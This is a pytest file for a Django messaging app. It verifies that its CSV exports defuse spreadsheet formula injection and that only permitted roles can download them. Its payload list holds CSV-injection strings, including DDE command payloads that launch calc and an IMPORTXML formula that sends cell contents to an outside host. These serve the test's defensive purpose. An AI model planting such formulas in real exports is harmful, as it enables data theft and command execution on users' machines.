"""Every CSV export defuses spreadsheet formulas in the cells it takes from vendors and senders.

The payloads go into the columns each export really writes (the vendor's error code, the
recipient, vendor message and request ids, the provider slug), the file is downloaded
through the view as a user whose role may read it, parsed with the csv module, and the
payload's row is found and checked cell by cell.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from messaging.models import ErrorEvent, Provider, Send, SendStatus
from messaging.traffic import rollups
from messaging.vault.roles import ACCOUNT_MANAGER, SUPPORT, ensure_roles

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://x")',
    "=1+2",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "@",
    "=",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A bare signed number (an E.164 recipient, "-12") is data to a spreadsheet, not a formula.
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")


def assert_defused(cell: str, payload: str):
    """The cell keeps the payload's text but a spreadsheet cannot run it."""
    if SIGNED_NUMBER.fullmatch(payload):
        assert cell in (payload, "'" + payload)
    else:
        assert cell == "'" + payload, f"{payload!r} exported as {cell!r}"


def assert_no_cell_is_a_formula(rows: list[list[str]]):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or SIGNED_NUMBER.fullmatch(cell), (cell, row)


def download(client, url_name: str, params: dict) -> list[list[str]]:
    response = client.get(reverse(url_name), params)
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def user_in(role: str, django_user_model):
    ensure_roles()
    # No password: force_login needs none, and hashing one is most of a test's time.
    user = django_user_model.objects.create_user(f"csv-{role.lower().replace(' ', '-')}")
    user.groups.add(Group.objects.get(name=role))
    return user


@pytest.fixture
def support(client, django_user_model):
    """Support may read both the send log and the error breakdown."""
    user = user_in(SUPPORT, django_user_model)
    client.force_login(user)
    return user


def provider_named(payload: str, n: int) -> Provider:
    # A slug is validated by the forms, not the database: a hostile one still must not run.
    return Provider.objects.create(name=f"P{n}", slug=payload[:50], kind="23telecom")


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_sends_export_defuses_every_vendor_and_sender_text(client, support, payload):
    provider = provider_named(payload, 1)
    now = timezone.now()
    send = Send.objects.create(
        provider=provider,
        recipient=payload,
        status=SendStatus.FAILED,
        error_code=payload,
        error_category="validation",
        vendor_message_id=payload,
        request_id=payload,
        created_at=now,
    )
    plain = Send.objects.create(
        provider=provider, recipient="+447700900001", status=SendStatus.ACCEPTED, created_at=now - timedelta(seconds=1)
    )

    rows = download(client, "messaging:sends_export", {})
    header, *body = rows
    by_id = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in body}
    assert set(by_id) == {str(send.pk), str(plain.pk)}, "the payload row is in the file"
    row = by_id[str(send.pk)]
    for column in ("recipient", "error_code", "vendor_message_id", "request_id", "provider"):
        assert_defused(row[column], payload)
    assert (row["status"], row["error_category"]) == ("failed", "validation")
    # An E.164 recipient is left as it is: a spreadsheet reads it as a number, not a formula.
    assert by_id[str(plain.pk)]["recipient"] == "+447700900001"
    assert_no_cell_is_a_formula(rows)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("group", ["code", "category"])
def test_errors_export_defuses_the_vendor_error_code(client, support, payload, group):
    provider = provider_named(payload, 2)
    at = timezone.now() - timedelta(minutes=1)
    sends = Send.objects.bulk_create(Send(provider=provider, created_at=at) for _ in range(4))
    events = ErrorEvent.objects.bulk_create(
        ErrorEvent(
            provider=provider,
            error_code=payload,
            category="validation",
            occurred_at=at,
            message=payload,
            raw_body=payload,
            param=payload[:100],
            request_id=payload,
        )
        for _ in range(3)
    )
    rollups.record(sends=sends, errors=events)

    rows = download(client, "messaging:errors_export", {"window": "24h", "group": group})
    header, *body = rows
    assert header == ["provider", "error_code", "category", "errors", "sends", "error_rate"]
    assert len(body) == 1, "the payload row is in the file"
    row = dict(zip(header, body[0], strict=True))
    if group == "code":
        assert_defused(row["provider"], payload)
        assert_defused(row["error_code"], payload)
    else:
        assert (row["provider"], row["error_code"]) == ("all", "")
    assert (row["category"], row["errors"], row["sends"]) == ("validation", "3", "4")
    assert_no_cell_is_a_formula(rows)


def test_an_account_manager_may_download_the_errors_export_with_payloads(client, django_user_model):
    """The other role that reads the breakdown gets the same defused file."""
    client.force_login(user_in(ACCOUNT_MANAGER, django_user_model))
    provider = Provider.objects.create(name="AM", slug="am", kind="telnxo")
    at = timezone.now() - timedelta(minutes=1)
    events = ErrorEvent.objects.bulk_create(
        ErrorEvent(provider=provider, error_code=code, category="server", occurred_at=at) for code in PAYLOADS
    )
    rollups.record(errors=events)
    rows = download(client, "messaging:errors_export", {"window": "1h", "provider": "am"})
    codes = {row[1] for row in rows[1:]}
    assert len(codes) == len(PAYLOADS)
    for payload in PAYLOADS:
        matching = [cell for cell in codes if cell in (payload, "'" + payload)]
        assert len(matching) == 1, f"{payload!r} is in the file once"
        assert_defused(matching[0], payload)
    assert_no_cell_is_a_formula(rows)
    # The send log is not this role's to read.
    assert client.get(reverse("messaging:sends_export")).status_code == 403
